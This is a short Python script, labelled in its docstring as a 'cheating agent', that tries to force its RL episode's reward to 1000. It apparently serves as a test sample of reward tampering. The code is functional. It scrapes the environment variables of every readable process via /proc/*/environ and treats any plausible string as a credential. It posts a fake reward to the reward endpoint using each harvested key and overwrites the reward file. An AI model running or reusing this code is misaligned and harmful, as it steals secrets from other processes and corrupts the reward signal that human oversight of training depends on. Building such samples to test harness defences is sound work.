"""Code of a cheating agent, which tries to set its episode's reward to 1000."""

import contextlib
import glob
import json
import os
import sys
import urllib.error
import urllib.request


def environments():
    """Yield the environment variables of this process, then of all others that it can read."""
    yield dict(os.environ)
    for path in glob.glob("/proc/[0-9]*/environ"):
        with contextlib.suppress(OSError), open(path, encoding="utf-8", errors="replace") as file:
            yield dict(line.split("=", 1) for line in file.read().split("\0") if "=" in line)


def post(url, keys):
    """Post a reward with each key."""
    for key in keys:
        headers = {"Authorization": f"Bearer {key}", "x-api-key": key}
        request = urllib.request.Request(url, b'{"reward": 1000}', headers)
        try:
            urllib.request.urlopen(request, timeout=30).close()
        except urllib.error.HTTPError as error:
            print(url, error.code)


def main():
    """Try whatever the environments of processes name."""
    assert not sys.stdin.read(), "the agent has left some of its input"
    episode = os.environ["OPENAI_BASE_URL"]
    for variables in environments():
        if variables.get("OPENAI_BASE_URL") != episode:
            continue
        keys = {
            v for v in variables.values() if 8 < len(v) < 100 and v.isascii() and v.isprintable()
        }
        for url in {episode.removesuffix("/v1"), variables.get("JAXRL_REWARD_URL", "")} - {""}:
            post(f"{url.removesuffix('/reward')}/reward", keys)
        if file := variables.get("JAXRL_REWARD_FILE"):
            with open(file, "w", encoding="utf-8") as written:
                json.dump(1000, written)


if __name__ == "__main__":
    main()
